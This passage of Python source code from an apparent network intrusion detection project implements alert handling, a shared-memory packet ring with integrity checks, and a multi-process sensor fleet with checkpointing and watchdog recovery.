            self.stats.frames_analyzed += 1
            if self.analyzer.frame_cache is not None:
                if result.cached:
                    self.stats.frame_cache_hits += 1
                else:
                    self.stats.frame_cache_misses += 1
            for match in result.matches:
                name = match.template.name
                if state is not None and name in state.alerted_templates:
                    continue
                if state is not None:
                    state.alerted_templates.add(name)
                alert = Alert(
                    timestamp=pkt.timestamp,
                    source=pkt.src or "?",
                    destination=pkt.dst or "?",
                    template=name,
                    severity=match.template.severity,
                    frame_origin=frame.origin,
                    detail=match.summary(),
                    match=match,
                )
                self.alerts.append(alert)
                self.stats.alerts += 1
                if pkt.src:
                    self.blocklist.block(pkt.src, pkt.timestamp)
                out.append(alert)
        return out

    # -- fault containment -------------------------------------------------------

    def _contain_packet_fault(self, site: str, pkt: Packet,
                              exc: Exception) -> list[Alert]:
        """A per-packet stage threw: count, quarantine, alert degraded."""
        stage = self.firewall.contain(site, exc, pkt=pkt,
                                      payload=pkt.payload or None)
        return self._degraded_alert(
            stage, self.firewall.template_for(exc),
            f"{type(exc).__name__}: {exc}",
            pkt.timestamp, pkt.src, pkt.dst, None)

    def _contain_payload_fault(self, site: str, pkt: Packet, payload: bytes,
                               state: _StreamState | None,
                               exc: Exception) -> list[Alert]:
        """Extraction/analysis threw on a payload: same containment, but
        the quarantined evidence is the (possibly reassembled) payload and
        the degraded alert dedups per stream like any template alert."""
        stage = self.firewall.contain(site, exc, pkt=pkt, payload=payload)
        return self._degraded_alert(
            stage, self.firewall.template_for(exc),
            f"{type(exc).__name__}: {exc}",
            pkt.timestamp, pkt.src, pkt.dst, state)

    def _degraded_alert(self, stage: str, template: str, detail: str,
                        timestamp: float, source: str | None,
                        destination: str | None,
                        state: _StreamState | None) -> list[Alert]:
        """Containment is visible: emit the degraded-mode alert.

        Deliberately NOT a blocklist trigger — faults can be provoked by
        spoofed traffic, and auto-blocking on them would hand attackers a
        denial-of-service primitive.
        """
        if state is not None:
            if template in state.alerted_templates:
                return []
            state.alerted_templates.add(template)
        alert = Alert(
            timestamp=timestamp,
            source=source or "?",
            destination=destination or "?",
            template=template,
            severity=DEGRADED_SEVERITY,
            frame_origin=stage,
            detail=detail,
        )
        self.alerts.append(alert)
        self.stats.alerts += 1
        return [alert]

    # -- reporting ----------------------------------------------------------------

    def alert_sources(self) -> set[str]:
        return {a.source for a in self.alerts}

    def alerts_by_template(self) -> dict[str, int]:
        out: dict[str, int] = {}
        for alert in self.alerts:
            out[alert.template] = out.get(alert.template, 0) + 1
        return out

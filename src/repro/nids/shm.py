"""Shared-memory packet transport for the sensor fleet.

The fleet's original transport pickles every ``(seq, wire_bytes,
timestamp)`` triple into a ``ProcessPoolExecutor.submit`` call — the
dispatcher serializes each packet's payload, the pool pipes it through a
socket, and the worker deserializes it.  At fleet scale that per-byte
tax on the single dispatcher process is the bottleneck (ROADMAP, PR 7
"remaining headroom").  This module moves the bytes out of band:

- the **dispatcher** owns one :class:`PacketRing` per shard — a
  seqlock-framed span ring over :class:`multiprocessing.shared_memory.
  SharedMemory`.  A dispatch batch is written once into the ring
  (length-prefixed records, CRC-framed, batch-delimited) and only a
  tiny :class:`RingSlot` descriptor ``(offset, length, generation,
  count)`` rides the pickle channel;
- the **worker** attaches to the ring by name, validates the frame
  (magic, head *and* tail generation words, payload CRC-32), snapshots
  the batch payload with one copy, and decodes :class:`Packet` objects
  zero-copy from the snapshot through the PR 5 memoryview front end.

Why the one snapshot copy: the engine's stream reassembler retains
payload *views* across batches (``Stream.segments``), but ring bytes
are recycled as soon as the batch's result folds back to the
dispatcher.  Decoding straight from the shared buffer would let
recycled bytes alias live stream state; snapshotting pins the batch in
worker-local memory for exactly as long as any view needs it, while
the expensive per-packet pickle/unpickle round trip is still gone.

Frame integrity is **loud, never silent**: the generation word is
bumped whenever a shard ring is reset (watchdog restart), so a stale
descriptor — one that outlived the bytes it pointed at — fails the
seqlock check with :class:`RingIntegrityError` instead of decoding
garbage.  Replay after a restart never goes through old slots: the
dispatcher re-ships from its raw replay log (see
:meth:`repro.nids.fleet.SensorFleet._restart_shard`).

Allocation arithmetic lives in
:class:`~repro.resilience.shedder.SpanRing`; ring-full handling (the
counted blocking / pickle-fallback ladder) is the dispatcher's job and
is counted in ``repro_fleet_ring_full_total`` /
``repro_fleet_ring_fallback_total``.
"""

from __future__ import annotations

import multiprocessing
import struct
import weakref
import zlib
from dataclasses import dataclass
from multiprocessing import resource_tracker, shared_memory

from ..resilience.shedder import SpanRing

__all__ = ["PacketRing", "RingReader", "RingSlot", "RingIntegrityError",
           "DEFAULT_RING_BYTES"]

#: Default per-shard ring capacity.  Sizing guidance lives in
#: docs/operations.md: it must hold ``batch_size × typical wire size``
#: times the number of batches allowed in flight per shard.
DEFAULT_RING_BYTES = 1 << 20

#: Frame header: magic, generation, payload length, payload CRC-32.
_FRAME = struct.Struct("<IIII")
#: Frame tail: the generation again — the seqlock guard a reader checks
#: *after* copying the payload, so a frame overwritten mid-read (which
#: cannot happen under the retire-after-fold protocol, but would under a
#: dispatcher bug) is detected, not decoded.
_TAIL = struct.Struct("<I")
#: Per-record header inside the payload: seq, timestamp, wire length.
_REC = struct.Struct("<QdI")

FRAME_MAGIC = 0x52504B54  # "RPKT"


class RingIntegrityError(Exception):
    """A descriptor pointed at bytes that are not the frame it named:
    bad magic, a generation mismatch (recycled ring), or a CRC failure.
    Always a protocol bug or a stale replay — never swallowed."""


@dataclass(frozen=True)
class RingSlot:
    """The descriptor shipped through the pool instead of the bytes."""

    offset: int
    length: int
    generation: int
    count: int


def _release_shm(shm: shared_memory.SharedMemory) -> None:
    try:
        shm.close()
    except Exception:
        pass
    try:
        shm.unlink()
    except Exception:
        pass  # already unlinked (double close, or the crash harness)


class PacketRing:
    """Dispatcher side: create, frame, and recycle one shard's ring."""

    def __init__(self, ring_bytes: int = DEFAULT_RING_BYTES) -> None:
        overhead = _FRAME.size + _TAIL.size + _REC.size
        if ring_bytes <= overhead:
            raise ValueError(
                f"ring_bytes must exceed the frame overhead ({overhead})")
        self._shm = shared_memory.SharedMemory(create=True, size=ring_bytes)
        self._alloc = SpanRing(ring_bytes)
        self.generation = 1
        #: creator owns the segment: close+unlink exactly once, even if
        #: the fleet is abandoned without close() (crash harness).
        self._finalizer = weakref.finalize(self, _release_shm, self._shm)

    @property
    def name(self) -> str:
        return self._shm.name

    @property
    def ring_bytes(self) -> int:
        return self._alloc.capacity

    @property
    def used_bytes(self) -> int:
        return self._alloc.used_bytes

    @property
    def high_watermark(self) -> int:
        return self._alloc.high_watermark

    def frame_size(self, batch: list) -> int:
        """Bytes one batch of ``(seq, wire, timestamp)`` triples costs."""
        return (_FRAME.size + _TAIL.size
                + sum(_REC.size + len(wire) for _seq, wire, _ts in batch))

    def try_write(self, key, batch: list) -> RingSlot | None:
        """Frame one dispatch batch into the ring; ``None`` when no
        contiguous span is free (the caller's fallback ladder decides
        what happens next — counted, never silent)."""
        total = self.frame_size(batch)
        offset = self._alloc.alloc(key, total)
        if offset is None:
            return None
        buf = self._shm.buf
        pos = offset + _FRAME.size
        for seq, wire, timestamp in batch:
            _REC.pack_into(buf, pos, seq, timestamp, len(wire))
            pos += _REC.size
            buf[pos:pos + len(wire)] = wire
            pos += len(wire)
        payload_len = pos - offset - _FRAME.size
        crc = zlib.crc32(buf[offset + _FRAME.size:pos])
        _FRAME.pack_into(buf, offset, FRAME_MAGIC, self.generation,
                         payload_len, crc)
        _TAIL.pack_into(buf, pos, self.generation)
        return RingSlot(offset=offset, length=total,
                        generation=self.generation, count=len(batch))

    def retire(self, key) -> bool:
        """Free a folded batch's span (FIFO; a no-op for batches that
        rode the pickle fallback or predate a reset)."""
        return self._alloc.retire_if(key)

    def reset(self) -> None:
        """Shard restart: void every live span and bump the generation,
        so any descriptor still referencing the old bytes fails loud.
        Live frame heads are poisoned (zeroed magic) as well — a stale
        descriptor must not read even *intact* pre-reset bytes, because
        the dispatcher replays those batches through the pickle path and
        a quiet double-read would defeat the fold dedupe accounting."""
        for _key, offset, _size in self._alloc.live_spans():
            _FRAME.pack_into(self._shm.buf, offset, 0, 0, 0, 0)
        self._alloc.reset()
        self.generation += 1

    def close(self) -> None:
        self._finalizer()

    def __enter__(self) -> "PacketRing":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


class RingReader:
    """Worker side: attach by name, validate frames, decode batches."""

    def __init__(self, name: str) -> None:
        self._shm = shared_memory.SharedMemory(name=name)
        # CPython's resource tracker registers *attachments* as if they
        # were creations (bpo-39959): under spawn/forkserver the worker
        # has its own tracker, which would unlink the segment out from
        # under the dispatcher when the worker dies and spam "leaked
        # shared_memory" warnings — compensate by unregistering.  Under
        # fork the tracker *process is shared* with the dispatcher and
        # registrations dedupe, so unregistering here would instead
        # erase the creator's entry and make its unlink double-remove.
        # The dispatcher (creator) owns the unlink either way.
        if multiprocessing.get_start_method() != "fork":
            try:
                resource_tracker.unregister(self._shm._name, "shared_memory")
            except Exception:
                pass

    def read_batch(self, slot: RingSlot) -> list:
        """Validate and decode one frame into ``(seq, wire_view,
        timestamp)`` triples.

        The payload is snapshotted with a single copy; the returned
        wire views are zero-copy slices of that snapshot, safe to hold
        across batches (stream reassembly does).  Raises
        :class:`RingIntegrityError` on any mismatch.
        """
        buf = self._shm.buf
        magic, generation, payload_len, crc = _FRAME.unpack_from(
            buf, slot.offset)
        if magic != FRAME_MAGIC:
            raise RingIntegrityError(
                f"bad frame magic {magic:#010x} at offset {slot.offset}")
        if generation != slot.generation:
            raise RingIntegrityError(
                f"ring generation {generation} != descriptor generation "
                f"{slot.generation}: the ring was recycled under this "
                "descriptor")
        start = slot.offset + _FRAME.size
        payload = bytes(buf[start:start + payload_len])  # the one copy
        (tail_gen,) = _TAIL.unpack_from(buf, start + payload_len)
        if tail_gen != slot.generation:
            raise RingIntegrityError(
                f"frame tail generation {tail_gen} != descriptor "
                f"generation {slot.generation}: torn frame")
        if zlib.crc32(payload) != crc:
            raise RingIntegrityError(
                f"frame CRC mismatch at offset {slot.offset}")
        view = memoryview(payload)
        records = []
        pos = 0
        for _ in range(slot.count):
            seq, timestamp, wire_len = _REC.unpack_from(payload, pos)
            pos += _REC.size
            records.append((seq, view[pos:pos + wire_len], timestamp))
            pos += wire_len
        if pos != payload_len:
            raise RingIntegrityError(
                f"frame payload length {payload_len} != records consumed "
                f"{pos}")
        return records

    def close(self) -> None:
        try:
            self._shm.close()
        except Exception:
            pass

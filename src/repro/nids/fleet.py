"""Scale-out sensor fleet: flow-hash dispatcher, whole-pipeline workers,
central aggregator.

The parallel engine (:mod:`repro.nids.parallel`) parallelizes stages
(b)-(e) *within* one sensor; the fleet scales the **whole pipeline** out
across N sensor processes, the way a capture point outgrows one box:

- **flow-hash dispatch** — every packet is assigned to a worker by a
  *stable* digest of its flow (``shard_by="source"``, the default,
  hashes the sender address; ``"flow"`` hashes the unordered endpoint
  pair), so each worker's defragmenter, stream reassembler, and
  per-stream dedup see complete (directional) flows.  Source sharding
  additionally keeps every *per-source* classifier state — dark-space
  scan counts, SMTP fan-out — on one worker, which is what makes fleet
  alerts exactly equal to a single batch
  :class:`~repro.nids.SemanticNids` over the same capture; endpoint
  sharding balances heavy talkers better but only preserves parity when
  classification is per-packet (honeypots) or disabled.
- **picklable work units** — workers receive ``(seq, wire_bytes,
  timestamp)`` triples and re-decode them; alerts travel back with the
  dispatcher-assigned ``seq`` and with ``match=None`` (live
  :class:`TemplateMatch` objects hold template lambdas and stay in the
  worker, same rule as the parallel engine).
- **deterministic aggregation** — the aggregator orders packet alerts by
  global dispatch sequence (a stable sort, so one packet's alerts keep
  their pipeline order) and appends each worker's flush-time alerts in
  worker order.  The merged stream does not depend on process
  scheduling.
- **cross-process metrics** — each batch result carries the worker
  registry's :meth:`~repro.obs.MetricsRegistry.collect_delta`; the
  aggregator folds them with
  :meth:`~repro.obs.MetricsRegistry.merge_delta` into the central
  registry.  Worker metric keys the aggregator never registered are
  auto-registered *and counted* (``repro_obs_merge_unknown_total``), so
  fleet-wide stage timings and shed/fault counters read like one
  sensor's.
"""

from __future__ import annotations

import hashlib
import os
from collections import deque
from concurrent.futures import ProcessPoolExecutor
from concurrent.futures import TimeoutError as FutureTimeoutError
from concurrent.futures.process import BrokenProcessPool
from dataclasses import dataclass, replace

from ..errors import FlowKeyError
from ..net.flow import FlowKey
from ..net.packet import Packet
from ..obs import MetricsRegistry
from ..resilience.checkpoint import CheckpointStore
from ..resilience.journal import AlertJournal, alert_to_record, record_to_alert
from .alerts import Alert
from .parallel import resolve_template_set
from .pipeline import SemanticNids

__all__ = ["SensorFleet", "FleetStats"]


# ---------------------------------------------------------------------------
# Worker side
# ---------------------------------------------------------------------------

_FLEET_STATE: dict = {}


def _init_fleet_worker(template_set: str, options: dict,
                       state: dict | None = None) -> None:
    """Per-process initializer: one complete sensor pipeline.

    ``state`` — a :meth:`SemanticNids.snapshot_state` payload from a
    checkpoint barrier — rehydrates a respawned or resumed worker so
    its per-source classifier memory and half-open streams continue
    where the dead worker stopped.
    """
    registry = MetricsRegistry()
    _FLEET_STATE["registry"] = registry
    nids = SemanticNids(
        templates=resolve_template_set(template_set),
        registry=registry, **options)
    if state is not None:
        nids.restore_state(state)
        # Rehydration counters are not part of the detection state; the
        # delta collected after restore must not re-report them.
        registry.collect_delta()
    _FLEET_STATE["nids"] = nids


def _fleet_snapshot_worker() -> dict:
    """Checkpoint barrier: ship this worker's full engine state."""
    nids: SemanticNids = _FLEET_STATE["nids"]
    return nids.snapshot_state()


def _portable(alert: Alert) -> Alert:
    """Alerts cross the process boundary without their live match
    objects (template predicates are lambdas and do not pickle)."""
    return replace(alert, match=None) if alert.match is not None else alert


def _fleet_process_batch(batch: list) -> tuple[list, dict]:
    """Run one dispatch batch of ``(seq, wire_bytes, timestamp)`` through
    the worker's pipeline; returns seq-tagged alerts + a metrics delta."""
    nids: SemanticNids = _FLEET_STATE["nids"]
    out = []
    for seq, raw, timestamp in batch:
        pkt = Packet.decode(raw, timestamp)
        for alert in nids.process_packet(pkt):
            out.append((seq, _portable(alert)))
    return out, _FLEET_STATE["registry"].collect_delta()


def _fleet_flush_worker() -> tuple[list, dict]:
    """Finalize unexamined stream tails; ships the remaining alerts and
    the final metrics delta."""
    nids: SemanticNids = _FLEET_STATE["nids"]
    alerts = [_portable(a) for a in nids.flush()]
    return alerts, _FLEET_STATE["registry"].collect_delta()


# ---------------------------------------------------------------------------
# Aggregator side
# ---------------------------------------------------------------------------


@dataclass
class FleetStats:
    """Aggregator-side accounting for one fleet run."""

    workers: int
    dispatched: int
    batches: int
    alerts: int
    deltas_merged: int
    #: crash-safety accounting; all zero without ``checkpoint_dir``.
    checkpoints: int = 0
    replayed: int = 0
    deduped: int = 0
    watchdog_restarts: int = 0


class SensorFleet:
    """N whole-pipeline sensor processes behind a flow-hash dispatcher.

    Parameters
    ----------
    workers:
        Sensor processes.  ``1`` still spawns a process — the fleet's
        value is the dispatch/aggregation contract, not a serial
        fallback (use :class:`SemanticNids` directly for that).
    template_set:
        Named template set, rebuilt inside each worker (template objects
        do not pickle).
    batch_size:
        Packets buffered per worker before a batch is shipped; amortizes
        pickling without reordering anything (per-worker batches stay
        FIFO, and the aggregator orders by global seq anyway).
    nids_options:
        Extra picklable keyword arguments for each worker's
        :class:`SemanticNids` (e.g. ``classification_enabled``,
        ``frame_cache_size``, ``analysis_deadline_ms``).
    shard_by:
        ``"source"`` (default) routes by sender address — exact alert
        parity with a batch sensor, because per-source classifier state
        never splits; ``"flow"`` routes by unordered endpoint pair —
        better balance under one heavy talker, parity only without
        cross-flow classifier state.
    registry:
        The central registry worker deltas fold into.
    """

    def __init__(
        self,
        workers: int = 2,
        template_set: str = "paper",
        batch_size: int = 64,
        nids_options: dict | None = None,
        shard_by: str = "source",
        registry: MetricsRegistry | None = None,
        checkpoint_dir: str | os.PathLike[str] | None = None,
        checkpoint_interval: int = 1000,
        journal_fsync_batch: int = 8,
        resume: bool = False,
        watchdog_timeout: float | None = None,
    ) -> None:
        if workers < 1:
            raise ValueError("a fleet needs at least one worker")
        if shard_by not in ("source", "flow"):
            raise ValueError(f"unknown shard_by {shard_by!r}; "
                             "expected 'source' or 'flow'")
        self.workers = workers
        self.shard_by = shard_by
        self.template_set = template_set
        self.batch_size = batch_size
        self.nids_options = dict(nids_options or {})
        self.registry = registry if registry is not None else MetricsRegistry()
        self.alerts: list[Alert] = []
        self._seq = 0
        self._batches_sent = 0
        self._deltas_merged = 0
        self._batches: list[list] = [[] for _ in range(workers)]
        #: per-shard FIFO of (batch_key, future); batch_key = first seq
        self._futures: list[deque] = [deque() for _ in range(workers)]
        #: (seq, alert) pairs already collected, sorted at merge time
        self._collected: list = []
        self._dispatched = self.registry.counter(
            "repro_fleet_dispatched_total",
            help="Packets dispatched to fleet workers.", unit="packets")
        self._batch_counter = self.registry.counter(
            "repro_fleet_batches_total",
            help="Dispatch batches shipped to fleet workers.",
            unit="batches")
        # -- durability / supervision (optional) --
        self.checkpoint_interval = max(1, checkpoint_interval)
        self.watchdog_timeout = watchdog_timeout
        self.checkpoints: CheckpointStore | None = None
        self.journal: AlertJournal | None = None
        #: dispatch seq the caller should re-feed from after a resume
        self.resume_seq = 0
        self._last_checkpoint_seq = 0
        #: last barrier snapshot per shard (respawn/resume rehydration)
        self._shard_states: list[dict | None] = [None] * workers
        #: batches shipped since the last barrier, per shard, for replay
        #: after a watchdog kill (keyed like the futures)
        self._replay: list[list] = [[] for _ in range(workers)]
        #: batch keys already folded (a replayed batch must not re-emit)
        self._folded: set[int] = set()
        #: journal keys already emitted into ``alerts`` (replay dedupe)
        self._emitted_keys: set = set()
        self._watchdog_restarts = self.registry.counter(
            "repro_watchdog_restarts_total",
            help="Fleet shards killed and respawned by the dispatcher "
                 "watchdog after a missed heartbeat.", unit="restarts")
        self._replayed_counter = self.registry.counter(
            "repro_alerts_replayed_total",
            help="Journaled alerts re-offered to the sink after a restart.",
            unit="alerts")
        self._deduped_counter = self.registry.counter(
            "repro_alerts_deduped_total",
            help="Duplicate alerts suppressed by delivery-side replay "
                 "dedupe.", unit="alerts")
        if checkpoint_dir is not None:
            self.checkpoints = CheckpointStore(
                checkpoint_dir, registry=self.registry)
            self.journal = AlertJournal(
                os.path.join(checkpoint_dir, "journal"),
                fsync_batch=journal_fsync_batch, registry=self.registry)
            if resume:
                self._resume()
            else:
                self.checkpoints.clear()
                self.journal.prune(keep_segments=0)
        elif resume:
            raise ValueError("resume=True requires checkpoint_dir")
        self._pools = [
            ProcessPoolExecutor(
                max_workers=1,
                initializer=_init_fleet_worker,
                initargs=(self.template_set, self.nids_options,
                          self._shard_states[shard]),
            )
            for shard in range(workers)
        ]

    # -- crash recovery ------------------------------------------------------

    def _resume(self) -> None:
        """Rehydrate the aggregator from the checkpoint directory.

        The journal holds every barrier-emitted packet alert in global
        seq order; they are restored into :attr:`alerts` (counted as
        replayed) and their keys armed for dedupe, so the re-fed window
        past the checkpoint watermark cannot emit twice.  Entries past
        the watermark (an aborted barrier whose journal sync completed
        but whose checkpoint rename did not) restore the same way.
        """
        recovery = self.journal.recover()
        ckpt = self.checkpoints.load()
        if ckpt is not None:
            from ..core.library import library_digest
            current = library_digest(resolve_template_set(self.template_set))
            if ckpt["library_digest"] != current:
                raise ValueError(
                    "fleet checkpoint was taken under a different template "
                    "library; refusing to resume")
            if ckpt["workers"] != self.workers:
                raise ValueError(
                    f"fleet checkpoint has {ckpt['workers']} shard "
                    f"snapshots; cannot resume with {self.workers} workers "
                    "(flow→shard routing would change)")
            self._seq = ckpt["watermark"]
            self.resume_seq = ckpt["watermark"]
            self._last_checkpoint_seq = ckpt["watermark"]
            self._shard_states = list(ckpt["shard_states"])
            self._dispatched.inc(ckpt["watermark"])
        for key, record in recovery.entries:
            self._emitted_keys.add(key)
            self.alerts.append(record_to_alert(record))
            self._replayed_counter.inc()

    def checkpoint(self) -> None:
        """Barrier checkpoint: drain every shard, snapshot worker state,
        journal and emit the collected window, then atomically persist
        the dispatch watermark + shard snapshots.  The journal is synced
        before the checkpoint rename, so a checkpointed watermark never
        points past un-durable alerts."""
        if self.checkpoints is None:
            return
        for shard in range(self.workers):
            self._ship(shard)
        self._collect(blocking=True)
        states = []
        for shard in range(self.workers):
            states.append(self._submit_supervised(
                shard, _fleet_snapshot_worker))
        window = sorted(self._collected, key=lambda pair: pair[0])
        self._collected = []
        self._journal_and_emit(window)
        self.journal.sync()
        from ..core.library import library_digest
        self.checkpoints.save({
            "watermark": self._seq,
            "workers": self.workers,
            "shard_states": states,
            "library_digest": library_digest(
                resolve_template_set(self.template_set)),
        })
        self._shard_states = states
        self._replay = [[] for _ in range(self.workers)]
        self._folded.clear()
        self._last_checkpoint_seq = self._seq

    def _journal_and_emit(self, window: list) -> None:
        """Append a seq-sorted (seq, alert) window to the journal and to
        :attr:`alerts`, keyed ``(seq, k)`` (k = index among one packet's
        alerts) and deduped against anything already emitted."""
        k, last_seq = 0, None
        for seq, alert in window:
            k = k + 1 if seq == last_seq else 0
            last_seq = seq
            key = (seq, k)
            if key in self._emitted_keys:
                self._deduped_counter.inc()
                continue
            self._emitted_keys.add(key)
            if self.journal is not None:
                self.journal.append(list(key), alert_to_record(alert))
            self.alerts.append(alert)

    def _submit_supervised(self, shard: int, fn, *args):
        """Submit a call to one shard under the watchdog: a missed
        deadline or broken pool kills, respawns, rehydrates, and replays
        the shard, then retries once on the fresh pool."""
        try:
            future = self._pools[shard].submit(fn, *args)
            if self.watchdog_timeout is not None:
                return future.result(timeout=self.watchdog_timeout)
            return future.result()
        except (FutureTimeoutError, BrokenProcessPool):
            self._restart_shard(shard)
            return self._pools[shard].submit(fn, *args).result()

    # -- lifecycle -----------------------------------------------------------

    def __enter__(self) -> "SensorFleet":
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    def close(self) -> None:
        self.flush()
        pools, self._pools = self._pools, []
        for pool in pools:
            pool.shutdown(wait=True, cancel_futures=True)
        if self.journal is not None:
            self.journal.close()

    # -- dispatch ------------------------------------------------------------

    def _shard_of(self, pkt: Packet) -> int:
        """Stable worker index for a packet.

        Hashed through :mod:`hashlib` rather than :func:`hash` so the
        assignment is identical across runs and interpreter salts.
        ``"source"`` mode keys on the sender (all of one host's flows —
        and its scan-count state — stay together); ``"flow"`` mode keys
        on the unordered endpoint pair so both directions of one
        conversation reach the same worker's reassembler.
        """
        if self.shard_by == "source":
            token = pkt.src or "?"
        else:
            try:
                key = FlowKey.of(pkt)
                a, b = f"{key.src}:{key.sport}", f"{key.dst}:{key.dport}"
                token = "|".join(sorted((a, b))) + f"/{key.proto}"
            except FlowKeyError:  # no transport flow (e.g. ICMP, raw eth)
                token = "|".join(sorted((pkt.src or "?", pkt.dst or "?")))
        digest = hashlib.sha1(token.encode()).digest()
        return int.from_bytes(digest[:4], "big") % self.workers

    def process_packet(self, pkt: Packet) -> None:
        """Dispatch one packet to its flow's worker.

        Alerts are not returned here — they surface, in deterministic
        order, from :meth:`flush` / :meth:`process_trace`; the fleet
        trades per-packet synchrony for throughput.
        """
        shard = self._shard_of(pkt)
        self._batches[shard].append((self._seq, pkt.encode(), pkt.timestamp))
        self._seq += 1
        self._dispatched.inc()
        if len(self._batches[shard]) >= self.batch_size:
            self._ship(shard)
        self._collect(blocking=False)
        if (self.checkpoints is not None
                and self._seq - self._last_checkpoint_seq
                >= self.checkpoint_interval):
            self.checkpoint()

    def process_trace(self, packets) -> list[Alert]:
        """Feed a whole capture; returns all alerts, aggregated."""
        before = len(self.alerts)
        for pkt in packets:
            self.process_packet(pkt)
        self.flush()
        return self.alerts[before:]

    def _ship(self, shard: int) -> None:
        batch, self._batches[shard] = self._batches[shard], []
        if not batch:
            return
        key = batch[0][0]  # first dispatch seq: unique, monotonic
        track = (self.watchdog_timeout is not None
                 or self.checkpoints is not None)
        if track:
            self._replay[shard].append((key, batch))
        try:
            future = self._pools[shard].submit(_fleet_process_batch, batch)
        except BrokenProcessPool:
            # The pool died before we could even submit; the restart
            # resubmits the whole replay window (this batch included).
            self._restart_shard(shard)
            if not track:
                future = self._pools[shard].submit(
                    _fleet_process_batch, batch)
                self._futures[shard].append((key, future))
        else:
            self._futures[shard].append((key, future))
        self._batches_sent += 1
        self._batch_counter.inc()

    # -- aggregation ---------------------------------------------------------

    def _collect(self, blocking: bool) -> None:
        """Fold completed batch results (per-shard FIFO) into the
        aggregation buffer and the central registry.  When blocking with
        a watchdog, a shard that misses its deadline (or whose pool
        broke) is killed, respawned from the last barrier snapshot, and
        its post-barrier batches are replayed; batches that had already
        been folded re-run for worker state only (their alerts are
        dropped by the batch-key fold filter)."""
        for shard, futures in enumerate(self._futures):
            while futures and (blocking or futures[0][1].done()):
                key, future = futures[0]
                try:
                    if blocking and self.watchdog_timeout is not None:
                        alerts, delta = future.result(
                            timeout=self.watchdog_timeout)
                    else:
                        alerts, delta = future.result()
                except (FutureTimeoutError, BrokenProcessPool):
                    self._restart_shard(shard)
                    futures = self._futures[shard]
                    continue
                futures.popleft()
                self.registry.merge_delta(delta)
                self._deltas_merged += 1
                if key in self._folded:
                    # replayed batch: worker state rebuilt, alerts
                    # already aggregated before the restart
                    self._deduped_counter.inc(len(alerts))
                    continue
                self._folded.add(key)
                self._collected.extend(alerts)

    def _restart_shard(self, shard: int) -> None:
        """Watchdog kill path: terminate and reap the shard's worker,
        respawn the pool rehydrated from the last barrier snapshot, and
        resubmit every batch shipped since that barrier."""
        self._watchdog_restarts.inc()
        pool = self._pools[shard]
        procs = list(getattr(pool, "_processes", {}).values())
        for proc in procs:
            proc.terminate()
        for proc in procs:
            proc.join(timeout=10)
        pool.shutdown(wait=False, cancel_futures=True)
        self._pools[shard] = ProcessPoolExecutor(
            max_workers=1,
            initializer=_init_fleet_worker,
            initargs=(self.template_set, self.nids_options,
                      self._shard_states[shard]),
        )
        self._futures[shard] = deque(
            (key, self._pools[shard].submit(_fleet_process_batch, batch))
            for key, batch in self._replay[shard])

    def flush(self) -> list[Alert]:
        """Ship partial batches, drain every worker, finalize stream
        tails, and merge: packet alerts sorted by dispatch seq (stable —
        one packet's alerts keep pipeline order), then each worker's
        flush-time alerts in worker order."""
        if not self._pools:
            return []
        for shard in range(self.workers):
            self._ship(shard)
        self._collect(blocking=True)
        tails: list[list[Alert]] = []
        for shard in range(self.workers):
            alerts, delta = self._submit_supervised(
                shard, _fleet_flush_worker)
            tails.append(alerts)
            self.registry.merge_delta(delta)
            self._deltas_merged += 1
        window = sorted(self._collected, key=lambda pair: pair[0])
        self._collected = []
        before = len(self.alerts)
        self._journal_and_emit(window)
        if self.journal is not None:
            self.journal.sync()
        # Flush-time stream tails are emitted once, by the incarnation
        # that actually finishes the capture; they carry no dispatch seq
        # and are not journaled (a crash *during* final flush re-runs
        # the flush after resume, regenerating them from the restored
        # stream state).
        self.alerts.extend(tail_alert for tail in tails
                           for tail_alert in tail)
        # Everything shipped so far is folded and emitted; the replay
        # window (bounded otherwise only by checkpoint barriers) resets.
        self._replay = [[] for _ in range(self.workers)]
        self._folded.clear()
        return self.alerts[before:]

    # -- hot template reload -------------------------------------------------

    def reload_template_set(self, template_set: str) -> bool:
        """Hot-swap the fleet's template library, same digest-keyed
        semantics as the single-sensor engines: in-flight batches drain
        under the old library, then every worker is respawned with the
        new set in its initargs."""
        from ..core.library import library_digest

        new = library_digest(resolve_template_set(template_set))
        old = library_digest(resolve_template_set(self.template_set))
        if new == old:
            return False
        self.flush()
        self.template_set = template_set
        # Snapshots taken under the old library cannot rehydrate workers
        # running the new one (restore_state refuses digest mismatches).
        self._shard_states = [None] * self.workers
        for shard, pool in enumerate(self._pools):
            # wait=True: the old worker must be reaped, not orphaned —
            # flush() already drained its queue, so there is no work to
            # wait on, only process teardown.
            pool.shutdown(wait=True, cancel_futures=True)
            self._pools[shard] = ProcessPoolExecutor(
                max_workers=1,
                initializer=_init_fleet_worker,
                initargs=(template_set, self.nids_options, None),
            )
        return True

    # -- reporting -----------------------------------------------------------

    @property
    def stats(self) -> FleetStats:
        return FleetStats(
            workers=self.workers,
            dispatched=self._seq,
            batches=self._batches_sent,
            alerts=len(self.alerts),
            deltas_merged=self._deltas_merged,
            checkpoints=(self.checkpoints.saves
                         if self.checkpoints is not None else 0),
            replayed=int(self._replayed_counter.value),
            deduped=int(self._deduped_counter.value),
            watchdog_restarts=int(self._watchdog_restarts.value),
        )

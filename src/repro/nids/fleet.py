"""Scale-out sensor fleet: flow-hash dispatcher, whole-pipeline workers,
central aggregator.

The parallel engine (:mod:`repro.nids.parallel`) parallelizes stages
(b)-(e) *within* one sensor; the fleet scales the **whole pipeline** out
across N sensor processes, the way a capture point outgrows one box:

- **flow-hash dispatch** — every packet is assigned to a worker by a
  *stable* digest of its flow (``shard_by="source"``, the default,
  hashes the sender address; ``"flow"`` hashes the unordered endpoint
  pair), so each worker's defragmenter, stream reassembler, and
  per-stream dedup see complete (directional) flows.  Source sharding
  additionally keeps every *per-source* classifier state — dark-space
  scan counts, SMTP fan-out — on one worker, which is what makes fleet
  alerts exactly equal to a single batch
  :class:`~repro.nids.SemanticNids` over the same capture; endpoint
  sharding balances heavy talkers better but only preserves parity when
  classification is per-packet (honeypots) or disabled.
- **picklable work units** — workers receive ``(seq, wire_bytes,
  timestamp)`` triples and re-decode them; alerts travel back with the
  dispatcher-assigned ``seq`` and with ``match=None`` (live
  :class:`TemplateMatch` objects hold template lambdas and stay in the
  worker, same rule as the parallel engine).
- **deterministic aggregation** — the aggregator orders packet alerts by
  global dispatch sequence (a stable sort, so one packet's alerts keep
  their pipeline order) and appends each worker's flush-time alerts in
  worker order.  The merged stream does not depend on process
  scheduling.
- **cross-process metrics** — each batch result carries the worker
  registry's :meth:`~repro.obs.MetricsRegistry.collect_delta`; the
